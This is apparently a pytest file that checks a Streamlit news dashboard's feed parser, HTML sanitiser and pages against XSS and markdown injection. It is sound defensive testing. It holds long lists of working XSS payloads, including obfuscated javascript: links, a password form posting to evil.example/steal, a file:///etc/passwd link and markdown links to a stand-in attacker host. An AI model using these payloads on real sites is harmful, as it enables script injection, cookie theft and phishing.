"""XSS and markdown injection (issue 5, item 4): hostile titles, summaries and links stay text.

Three layers, each with the classic payloads (``<script>``, ``<img onerror>``, ``<svg onload>``,
``<iframe>``, ``<form action>``, ``"><``, ``on…=`` handlers, ``javascript:`` in mixed case and
with encoded tabs and newlines, ``data:`` and ``vbscript:`` URLs):

1. ``ingest.parse.parse_feed`` on RSS and Atom documents written here: only http(s) links are
   kept and the stored text carries no markup.
2. The render helpers of ``ui/highlight.py``: everything escaped, then nh3 with an allow-list;
   the output has no ``<script``, no ``on…=`` attribute and no non-http(s) ``href``/``src``.
3. The real pages run by ``streamlit.testing.v1.AppTest`` on a SQLite store (in tmp_path) that
   holds the parsed articles plus articles saved with the raw payloads (defence in depth): every
   element that allows HTML passes the same HTML checks, and no element rendered as markdown
   turns user text (search words, outlet titles, article titles) into a live link or image.

Plus a repository check with ``ast``: every ``unsafe_allow_html=True`` call in dashboard.py,
app_pages/*.py and ui/*.py renders the result of a ``ui.highlight`` function that sanitises with nh3.
"""

from __future__ import annotations

import ast
import hashlib
import html
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from streamlit.testing.v1 import AppTest

from ingest import queries, store
from ingest.parse import parse_feed
from ingest.records import Article, CountryTag, Evidence, Tags, TopicTag, tagging_text
from ui import highlight
from ui.charts import PALETTE

ROOT = Path(__file__).resolve().parent.parent
FETCHED = datetime(2026, 2, 18, 12, tzinfo=UTC)

# --------------------------------------------------------------------------------------------
# Payloads

MARKUP_PAYLOADS: tuple[str, ...] = (
    "<script>alert(document.cookie)</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/steal"><input name=p type=password><button>Go</button></form>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="java&#x0A;script:alert(1)">newline</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<div onmouseover="alert(1)">hover</div>',
    '<body onload="alert(1)">',
    '<p style="background:url(javascript:alert(1))">style</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/">',
    "<details open ontoggle=alert(1)>",
)
HOSTILE_LINKS: tuple[str, ...] = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "jav&#x61;script:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    'https://news.example/a"><script>alert(1)</script>',
    "https://news.example/a' onmouseover='alert(1)",
    "https://news.example/<img src=x onerror=alert(1)>",
)
MARKDOWN_LINK = "[Log in](https://evil.example/login)"
MARKDOWN_IMAGE = "![](https://evil.example/pixel.png)"
SEARCH = MARKDOWN_LINK
# Plotly.js draws a pseudo-HTML subset in chart text: <a href> (http, https, mailto) becomes a
# clickable link, <span style> restyles; other tags stay text.
PLOTLY_TAGS = (
    '<img src=x onerror=alert(1)> <a href="https://evil.example/login">Verify</a> '
    '<span style="font-size:90px">Big</span> <b>bold</b><br>'
)
EVIL_OUTLET = f"{MARKDOWN_IMAGE} Wire"

# --------------------------------------------------------------------------------------------
# Checks


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _scheme(url: str) -> str:
    # What a browser does before reading the scheme: drop ASCII tab/newline anywhere, leading
    # and trailing C0 controls and spaces.
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(chr(i) for i in range(0x21)))
    return urlsplit(cleaned).scheme.lower() if ":" in cleaned else ""


HIGHLIGHT_STYLE = re.compile(r"background-color:#[0-9a-f]{6};color:#10161d")


def html_problems(fragment: str) -> list[str]:
    """What in ``fragment`` a browser could execute or use to leave the page."""
    problems = []
    if re.search(r"<\s*script", fragment, re.I):
        problems.append("<script")
    parser = _Collector()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        if tag not in highlight.ALLOWED_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"handler {name}= on <{tag}>")
            # The one style let through: a highlight's colours, from the palette (issue 11
            # item 7), exactly as ui.highlight writes it.
            palette_mark = tag == "mark" and name == "style" and bool(HIGHLIGHT_STYLE.fullmatch(
                value or "")) and (value or "")[17:24] in PALETTE  # fmt: skip
            risky = not palette_mark and name in ("src", "action", "formaction", "data", "srcdoc",
                                                  "style")  # fmt: skip
            if risky or (name == "href" and _scheme(value or "") not in ("http", "https")):
                problems.append(f"{name}={value!r} on <{tag}>")
    return problems


def live_markdown_targets(text: str) -> list[str]:
    """Targets of the links and images that markdown would make of ``text`` (backslash-escaped
    characters are literal; HTML tags are skipped): ``[x](t)``, ``![x](t)``, ``<scheme:…>``
    autolinks and GFM bare ``http(s)://`` or ``www.`` autolinks."""
    plain = re.sub(r"\\[\x21-\x7e]", "\x00", text)  # an escaped character is never syntax
    plain = re.sub(r"<(?![a-zA-Z][a-zA-Z0-9+.-]*:)[^>]*>", " ", plain)
    link = re.compile(r"!?\[[^\]\n]*\]\(\s*<?([^)\s>]*)[^)]*\)?")
    autolink = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
    targets = link.findall(plain) + autolink.findall(plain)
    rest = autolink.sub(" ", link.sub(" ", plain))
    targets += re.findall(r"(?<![\w/\x00])((?:https?://|www\.)[^\s<>()\x00]+)", rest)
    return targets


def text_has_markup(text: str) -> bool:
    return re.search(r"<\s*/?\s*[a-zA-Z!?]", text) is not None


def test_the_checks_catch_what_they_should() -> None:
    assert html_problems('<a href="javascript:alert(1)">x</a>')
    assert html_problems('<a href="java\tscript:alert(1)">x</a>')
    assert html_problems('<a href=" JaVaScRiPt:alert(1)">x</a>')
    assert html_problems('<mark onclick="x()">x</mark>')
    assert html_problems("<img src=https://ok.example/x.png>")
    assert html_problems("<script>1</script>")
    assert not html_problems('<b><a href="https://ok.example/a?b=1&amp;c=2">x</a></b><br>y')
    assert live_markdown_targets(MARKDOWN_LINK) == ["https://evil.example/login"]
    assert live_markdown_targets("x " + MARKDOWN_IMAGE) == ["https://evil.example/pixel.png"]
    assert live_markdown_targets("see https://evil.example/") == ["https://evil.example/"]
    assert live_markdown_targets(r"\[Log in\]\(https\://evil.example/login\)") == []
    assert live_markdown_targets('<a href="https://ok.example/">t</a>') == []


# --------------------------------------------------------------------------------------------
# 1. parse_feed


def _x(text: str) -> str:
    return html.escape(text, quote=False)


def hostile_rss() -> bytes:
    items = []
    for i, payload in enumerate(MARKUP_PAYLOADS):
        link = HOSTILE_LINKS[i % len(HOSTILE_LINKS)]
        # Titles carry the markup escaped once (as RSS titles do), descriptions as CDATA HTML.
        items.append(
            f"<item><title>{_x(payload)} Indonesia and Russia {i}</title>"
            f'<link>{_x(link)}</link><guid isPermaLink="false">x-{i}</guid>'
            f"<description><![CDATA[<p>Before</p>{payload}<p>after Indonesia, Russia.</p>]]>"
            f"</description><pubDate>Tue, 17 Feb 2026 {i % 24:02d}:00:00 GMT</pubDate></item>"
        )
    for i, link in enumerate(HOSTILE_LINKS):
        items.append(
            f"<item><title>Link {i} Indonesia Russia</title><link>{_x(link)}</link>"
            f'<guid isPermaLink="false">l-{i}</guid>'
            "<pubDate>Tue, 17 Feb 2026 10:00:00 GMT</pubDate></item>"
        )
    items.append(
        f"<item><title>{MARKDOWN_LINK} Indonesia Russia</title>"
        "<link>https://news.example/markdown-link</link>"
        f"<description>{MARKDOWN_IMAGE} Indonesia and Russia</description>"
        "<pubDate>Tue, 17 Feb 2026 11:00:00 GMT</pubDate></item>"
    )
    items.append(
        "<item><title>Fine Indonesia Russia</title><link>https://news.example/fine</link>"
        "<pubDate>Tue, 17 Feb 2026 12:00:00 GMT</pubDate></item>"
    )
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{_x(EVIL_OUTLET)}</title><link>https://news.example/</link>"
        + "".join(items)
        + "</channel></rss>"
    )
    return body.encode()


def hostile_atom() -> bytes:
    entries = []
    for i, payload in enumerate(MARKUP_PAYLOADS):
        link = HOSTILE_LINKS[i % len(HOSTILE_LINKS)]
        entries.append(
            f'<entry><id>urn:x:{i}</id><title type="html">{_x(payload)} Indonesia</title>'
            f'<link rel="alternate" href="{html.escape(link)}"/>'
            f"<updated>2026-02-17T0{i % 10}:00:00Z</updated>"
            f'<content type="html">{_x(payload)} Russia</content></entry>'
        )
    entries.append(
        '<entry><id>urn:x:xhtml</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        '<b onclick="alert(1)">XHTML</b> Indonesia</div></title>'
        '<link href="https://news.example/xhtml"/><updated>2026-02-17T11:00:00Z</updated>'
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        '<script>alert(1)</script><a href="javascript:alert(1)">x</a> Russia</div></content>'
        "</entry>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>Atom</title><id>urn:x</id><updated>2026-02-17T00:00:00Z</updated>"
        + "".join(entries)
        + "</feed>"
    ).encode()


@pytest.fixture(scope="module")
def parsed() -> list[tuple[str, list[Article]]]:
    out = []
    for name, body in (("rss", hostile_rss()), ("atom", hostile_atom())):
        feed = parse_feed(body, feed_url=f"https://news.example/{name}.xml", fetched_at=FETCHED)
        assert feed.error is None, feed.error
        out.append((name, feed.articles))
    return out


def test_parse_keeps_the_items(parsed: list[tuple[str, list[Article]]]) -> None:
    counts = dict((name, len(items)) for name, items in parsed)
    assert counts["rss"] == len(MARKUP_PAYLOADS) + len(HOSTILE_LINKS) + 2
    # Atom entries whose links resolve to the same URL are one article (deduplicated by URL).
    assert counts["atom"] >= len(MARKUP_PAYLOADS) // 2


def test_parse_stores_only_http_links(parsed: list[tuple[str, list[Article]]]) -> None:
    kept = []
    for _name, items in parsed:
        for article in items:
            if article.url is None:
                continue
            kept.append(article.url)
            parts = urlsplit(article.url)
            assert parts.scheme in ("http", "https") and parts.netloc, article.url
            assert "script:" not in parts.netloc.lower()
    assert "https://news.example/fine" in kept
    assert "https://news.example/xhtml" in kept
    assert not any(
        u.lower().startswith(("javascript:", "data:", "vbscript:", "file:")) for u in kept
    )


def test_stored_links_are_valid_uris(parsed: list[tuple[str, list[Article]]]) -> None:
    bad = [
        a.url
        for _name, items in parsed
        for a in items
        if a.url and (re.search(r'["<>`{}|\\^\s]', a.url) or highlight.safe_url(a.url) != a.url)
    ]
    assert bad == []


def test_parse_stores_text_without_markup(parsed: list[tuple[str, list[Article]]]) -> None:
    for _name, items in parsed:
        for article in items:
            for text in (article.title, article.summary):
                assert not text_has_markup(text), text
                assert "\x00" not in text
                assert not re.search(r"\bon[a-z]+\s*=", text, re.I), text
    titles = [a.title for _n, items in parsed for a in items]
    assert any("Indonesia and Russia" in t for t in titles)


# --------------------------------------------------------------------------------------------
# 2. ui/highlight


@pytest.mark.parametrize("payload", MARKUP_PAYLOADS)
def test_sanitise_removes_every_payload(payload: str) -> None:
    out = highlight.sanitise(f"<b>before</b> {payload} <mark>after</mark>")
    assert html_problems(out) == [], out
    assert "<b>before</b>" in out  # (an unclosed <svg> or <math> may swallow what follows)


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_article_html_never_links_anything_but_http(link: str) -> None:
    for payload in MARKUP_PAYLOADS:
        out = highlight.article_html(payload, payload, link, spans=[(0, 3, payload)], meta=payload)
        assert html_problems(out) == [], out
        parser = _Collector()
        parser.feed(out)
        # The payload is text, shown in full (escaped), not markup.
        assert payload in "".join(parser.text)


def test_article_html_keeps_good_links_and_marks() -> None:
    title, summary = "<b>Indonesia</b> & Russia", "Jakarta <i>meets</i> Moscow"
    text = tagging_text(title, summary)
    start = text.index("Moscow")
    spans = highlight.spans_from_evidence(text, [{"text": "Moscow", "start": start}], "Russia")
    out = highlight.article_html(title, summary, "https://news.example/a?b=1&c=2", spans)
    assert html_problems(out) == []
    assert '<a href="https://news.example/a?b=1&amp;c=2"' in out
    assert '<mark title="Russia">Moscow</mark>' in out
    assert "&lt;b&gt;Indonesia&lt;/b&gt; &amp; Russia" in out


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_safe_url_refuses_hostile_links(link: str) -> None:
    got = highlight.safe_url(link)
    assert got is None or (_scheme(got) in ("http", "https") and not html_problems(
        f'<a href="{html.escape(got)}">x</a>'
    ))  # fmt: skip


# --------------------------------------------------------------------------------------------
# 3. The pages


def _tags(text: str) -> Tags:
    countries = []
    for iso3, word in (("IDN", "Indonesia"), ("RUS", "Russia")):
        starts = [m.start() for m in re.finditer(word, text)]
        countries.append(CountryTag(iso3, [Evidence(word, "name", s) for s in starts]))
    return Tags("en", "feed", countries, [TopicTag("diplomacy", [])], "xss-test")


def build_store(url: str, parsed: list[tuple[str, list[Article]]]) -> dict[str, int]:
    engine = store.make_engine(url)
    try:
        feeds = {}
        for name, items in parsed:
            feeds[name] = store.ensure_feed(
                engine,
                f"https://news.example/{name}.xml",
                title=EVIL_OUTLET if name == "rss" else "Atom <script>alert(1)</script>",
                language="en",
                country_iso3="IDN",
            )
            store.save_articles(engine, feeds[name], [(a, _tags(a.text)) for a in items])
        # Raw payloads saved straight into the store: rendering must hold even if a row was
        # written by an older ingest or by hand.
        feeds["raw"] = store.ensure_feed(
            engine, "https://raw.example/feed", title=f"{MARKDOWN_LINK} {PLOTLY_TAGS}",
            language="en", country_iso3="RUS",
        )  # fmt: skip
        raw = []
        for i, payload in enumerate(MARKUP_PAYLOADS + (MARKDOWN_LINK, MARKDOWN_IMAGE)):
            title = f"{payload} Indonesia Russia"
            summary = f"{payload} {MARKDOWN_IMAGE} Indonesia and Russia"
            moment = FETCHED - timedelta(hours=1 + i)
            raw.append(
                (
                    Article(
                        url_key=hashlib.sha1(f"raw-{i}".encode()).hexdigest(),
                        url=HOSTILE_LINKS[i % len(HOSTILE_LINKS)],
                        guid=None,
                        title=title,
                        summary=summary,
                        published_at=moment,
                        fetched_at=moment,
                    ),
                    _tags(tagging_text(title, summary)),
                )
            )
        store.save_articles(engine, feeds["raw"], raw)
        return feeds
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
def xss_store(
    tmp_path_factory: pytest.TempPathFactory, parsed: list[tuple[str, list[Article]]]
) -> tuple[str, dict[str, int]]:
    url = f"sqlite:///{tmp_path_factory.mktemp('xss') / 'pantau.db'}"
    return url, build_store(url, parsed)


PERIOD = {"from": "2026-02-10", "to": "2026-02-18"}


def run_page(
    url: str, page: str, params: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> AppTest:
    monkeypatch.setenv("PANTAU_DATABASE_URL", url)
    monkeypatch.setenv("PANTAU_SEED_DEMO", "0")
    app = AppTest.from_file(str(ROOT / page), default_timeout=120)
    for key, value in params.items():
        app.query_params[key] = value
    app.run()
    assert not app.exception, [e.message for e in app.exception]
    return app


def rendered(app: AppTest) -> Iterator[tuple[str, str, bool]]:
    """(kind, text, allows_html) of every element whose text Streamlit renders as markdown."""
    for kind in ("markdown", "caption", "title", "header", "subheader", "info", "success",
                 "warning", "error", "toast"):  # fmt: skip
        for element in getattr(app, kind):
            allow = bool(getattr(getattr(element, "proto", None), "allow_html", False))
            yield kind, str(element.value), allow
    for element in app.get("html"):
        yield "html", str(getattr(element, "value", element.proto.body)), True


def page_problems(app: AppTest) -> list[str]:
    problems = []
    for kind, text, allow in rendered(app):
        if allow:
            problems += [f"{kind}: {p} in {text[:200]!r}" for p in html_problems(text)]
        for target in live_markdown_targets(text):
            if "evil" in target or _scheme(target) not in ("http", "https", ""):
                problems.append(f"{kind}: live link/image to {target!r} in {text[:200]!r}")
    for frame in app.dataframe:
        df = frame.value
        for column in df.columns:
            if str(column).lower() in ("url", "link"):
                for value in df[column].dropna():
                    if value == "":  # an empty cell: no link is drawn (never a grey "None")
                        continue
                    if _scheme(str(value)) not in ("http", "https"):
                        problems.append(f"dataframe link {value!r}")
    return problems


PAGE_CASES = [
    pytest.param("app_pages/4_Articles.py", {}, id="articles"),
    pytest.param("app_pages/3_Country_pair.py", {"pair": "IDN-RUS"}, id="pair"),
    pytest.param("app_pages/2_Map.py", {}, id="map"),
    pytest.param("app_pages/5_Feeds.py", {}, id="feeds"),
]


@pytest.mark.parametrize(("page", "params"), PAGE_CASES)
def test_pages_render_payloads_as_text(
    xss_store: tuple[str, dict[str, int]],
    monkeypatch: pytest.MonkeyPatch,
    page: str,
    params: dict[str, str],
) -> None:
    url, _feeds = xss_store
    app = run_page(url, page, PERIOD | params, monkeypatch)
    assert page_problems(app) == []


def test_story_headlines_stay_text(
    xss_store: tuple[str, dict[str, int]], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A story opens under its first article's headline: stories headed by a payload (markdown
    link or image, HTML; saved in a copy of the store, days apart) open with it as text. Each
    story is named by its first article, found by direct SQL (``Oracle.article_stories``)."""
    import shutil

    from tests.store_oracle import Oracle

    url, feeds = xss_store
    copy = f"sqlite:///{tmp_path / 'stories.db'}"
    shutil.copy(url.removeprefix("sqlite:///"), tmp_path / "stories.db")
    engine = store.make_engine(copy)
    try:
        saved = []
        for i, payload in enumerate((MARKDOWN_LINK, MARKDOWN_IMAGE, *MARKUP_PAYLOADS[:3])):
            title = f"{payload} Zanzibar{i}"
            moment = FETCHED - timedelta(days=2 * i)
            article = Article(
                url_key=hashlib.sha1(f"story-head-{i}".encode()).hexdigest(),
                url=f"https://raw.example/story/{i}", guid=None, title=title, summary="",
                published_at=moment, fetched_at=moment,
            )  # fmt: skip
            saved += store.save_articles(
                engine, feeds["raw"], [(article, _tags(title))]
            ).article_ids
    finally:
        engine.dispose()
    oracle = Oracle(copy)
    try:
        story_of = oracle.article_stories()
        titles = {int(i): str(t) for i, t in oracle.rows("SELECT id, title FROM articles")}
    finally:
        oracle.close()
    heads = sorted({story_of[i] for i in saved})
    assert {MARKDOWN_LINK, MARKDOWN_IMAGE} & {titles[h].split(" Zanzibar")[0] for h in heads}
    for head in heads:
        app = run_page(copy, "app_pages/7_Stories.py", PERIOD | {"story": str(head)}, monkeypatch)
        assert not app.info, [i.value for i in app.info]  # the story opened
        assert page_problems(app) == [], titles[head]


def test_html_elements_on_the_pair_page_are_sanitised(
    xss_store: tuple[str, dict[str, int]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The HTML half of the pair page holds (what the markdown hole above does not cover)."""
    url, _feeds = xss_store
    app = run_page(url, "app_pages/3_Country_pair.py", PERIOD | {"pair": "IDN-RUS"}, monkeypatch)
    html_elements = [text for _k, text, allow in rendered(app) if allow]
    assert len(html_elements) >= 10, "the evidence articles are rendered as HTML"
    for text in html_elements:
        assert html_problems(text) == [], text
    joined = "\n".join(html_elements)
    assert "&lt;script&gt;" in joined  # the payload is shown as text


@pytest.mark.parametrize(
    "page",
    [
        pytest.param("app_pages/1_Coverage.py", id="coverage"),
        pytest.param("dashboard.py", id="overview"),
        pytest.param("app_pages/2_Map.py", id="map"),
        pytest.param("app_pages/4_Articles.py", id="articles"),
    ],
)
def test_search_words_and_outlet_titles_never_become_links(
    xss_store: tuple[str, dict[str, int]], monkeypatch: pytest.MonkeyPatch, page: str
) -> None:
    url, feeds = xss_store
    params = PERIOD | {"q": SEARCH, "feed": f"{feeds['rss']},{feeds['raw']}", "c": "IDN"}
    app = run_page(url, page, params, monkeypatch)
    texts = [text for _k, text, _a in rendered(app)]
    # The description (search words and outlet names) is on the page, as text.
    assert any("Log in" in t and "Wire" in t for t in texts), texts[:5]
    assert page_problems(app) == []


# --------------------------------------------------------------------------------------------
# The repository: unsafe_allow_html only through the nh3 gate


def _sanitising_functions() -> set[str]:
    """Functions of ui/highlight.py whose every return value comes from nh3.clean: a call to
    nh3.clean, to another such function, or to a highlight function post-processing such a
    call (its first argument)."""
    tree = ast.parse((ROOT / "ui" / "highlight.py").read_text(encoding="utf-8"))
    functions = {n.name: n for n in tree.body if isinstance(n, ast.FunctionDef)}

    def call_name(node: ast.AST) -> str | None:
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                return f"{func.value.id}.{func.attr}"
            if isinstance(func, ast.Name):
                return func.id
        return None

    def sanitised(node: ast.AST, safe: set[str]) -> bool:
        name = call_name(node)
        if name == "nh3.clean" or name in safe:
            return True
        return (
            name in functions
            and isinstance(node, ast.Call)
            and bool(node.args)
            and sanitised(node.args[0], safe)
        )

    safe: set[str] = set()
    changed = True
    while changed:
        changed = False
        for name, fn in functions.items():
            if name in safe:
                continue
            returns = [n for n in ast.walk(fn) if isinstance(n, ast.Return) and n.value]
            if returns and all(sanitised(r.value, safe) for r in returns):
                safe.add(name)
                changed = True
    return safe


def _rendering_files() -> list[Path]:
    return [ROOT / "dashboard.py", *sorted((ROOT / "app_pages").glob("*.py")),
            *sorted((ROOT / "ui").glob("*.py"))]  # fmt: skip


def test_sanitising_functions_are_found() -> None:
    safe = _sanitising_functions()
    assert {"sanitise", "article_html"} <= safe
    assert "mark" not in safe and "safe_url" not in safe


def _from_highlight(node: ast.AST, safe: set[str], assigned: dict[str, ast.AST]) -> bool:
    if isinstance(node, ast.Name) and node.id in assigned:
        return _from_highlight(assigned[node.id], safe, {})
    if not isinstance(node, ast.Call):
        return False
    func = node.func
    return (
        isinstance(func, ast.Attribute)
        and isinstance(func.value, ast.Name)
        and func.value.id == "highlight"
        and func.attr in safe
    )


def test_unsafe_allow_html_only_renders_sanitised_html() -> None:
    safe = _sanitising_functions()
    checked, offenders = 0, []
    for path in _rendering_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        assigned: dict[str, ast.AST] = {}
        for node in ast.walk(tree):
            if isinstance(node, ast.Assign) and len(node.targets) == 1:
                target = node.targets[0]
                if isinstance(target, ast.Name):
                    assigned[target.id] = node.value
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            where = f"{path.relative_to(ROOT)}:{node.lineno}"
            flagged = any(
                k.arg == "unsafe_allow_html" and not (
                    isinstance(k.value, ast.Constant) and k.value.value is False
                )
                for k in node.keywords
            )  # fmt: skip
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name == "html" and isinstance(func, ast.Attribute):
                owner = ast.unparse(func.value)
                if owner in ("st", "streamlit", "components", "st.components.v1", "components.v1"):
                    flagged = True  # st.html / components.html render raw HTML too
            if not flagged:
                continue
            checked += 1
            if not node.args or not _from_highlight(node.args[0], safe, assigned):
                offenders.append(f"{where}: {ast.unparse(node)[:120]}")
    assert offenders == []
    assert checked >= 3, "the pages do render sanitised HTML (dashboard, pair, articles)"


def test_adding_and_toggling_a_hostile_feed_shows_its_title_as_text(
    xss_store: tuple[str, dict[str, int]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import shutil

    from tests.feedserver import FeedServer

    url, _feeds = xss_store
    copy = tmp_path / "copy.db"  # the module's store stays as it was
    shutil.copy(url.removeprefix("sqlite:///"), copy)
    served = tmp_path / "served"
    served.mkdir()
    (served / "hostile.rss.xml").write_bytes(
        hostile_rss().replace(
            _x(EVIL_OUTLET).encode(), _x(f"{EVIL_OUTLET} {MARKDOWN_LINK}").encode()
        )
    )
    monkeypatch.setenv("PANTAU_ALLOW_PRIVATE_ADDRESSES", "1")
    with FeedServer(root=served) as server:
        app = run_page(f"sqlite:///{copy}", "app_pages/5_Feeds.py", {}, monkeypatch)
        app.text_input(key="add_url").set_value(server.feed_url("hostile.rss.xml"))
        next(b for b in app.button if "Check and add" in b.label).click().run()
    assert not app.exception, [e.message for e in app.exception]
    assert any("Added" in s.value for s in app.success), [e.value for e in app.error]
    problems = page_problems(app)
    engine = store.make_engine(f"sqlite:///{copy}")
    try:
        health = queries.feed_health(engine)
    finally:
        engine.dispose()
    feed_id = int(health[health.url == server.feed_url("hostile.rss.xml")].iloc[0].id)
    app.run()  # the list of feeds now holds the new one
    app.selectbox(key="feed_pick").set_value(feed_id).run()
    app.button(key="feed_toggle").click().run()
    assert not app.exception, [e.message for e in app.exception]
    assert any("Wire" in t.value for t in app.toast), "the toast names the feed"
    problems += page_problems(app)
    assert problems == []


# --------------------------------------------------------------------------------------------
# Charts: outlet titles are chart labels


_PLOTLY_MARKUP = re.compile(r"<\s*/?\s*(a|span|b|i|em|s|u|sup|sub|br)\b", re.I)
_DATA_KEYS = ("x", "y", "z", "text", "hovertext", "customdata", "labels", "ids", "locations")


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def chart_markup(app: AppTest) -> list[str]:
    """Data strings of every Plotly chart that Plotly.js would draw as markup."""
    found = []
    for chart in app.get("plotly_chart"):
        spec = json.loads(chart.proto.spec)
        for trace in spec.get("data", []):
            for key in _DATA_KEYS:
                found += [s for s in _strings(trace.get(key)) if _PLOTLY_MARKUP.search(s)]
        layout = spec.get("layout", {})
        for axis in (v for k, v in layout.items() if k.startswith(("xaxis", "yaxis"))):
            found += [s for s in _strings(axis.get("ticktext")) if _PLOTLY_MARKUP.search(s)]
    return found


def test_outlet_titles_in_charts_are_text(
    xss_store: tuple[str, dict[str, int]], monkeypatch: pytest.MonkeyPatch
) -> None:
    url, _feeds = xss_store
    app = run_page(url, "app_pages/3_Country_pair.py", PERIOD | {"pair": "IDN-RUS"}, monkeypatch)
    specs = [json.loads(c.proto.spec) for c in app.get("plotly_chart")]
    labels = [s for spec in specs for trace in spec["data"] for s in _strings(trace.get("y"))]
    assert any("Verify" in s for s in labels), "the hostile outlet is charted"
    assert chart_markup(app) == []
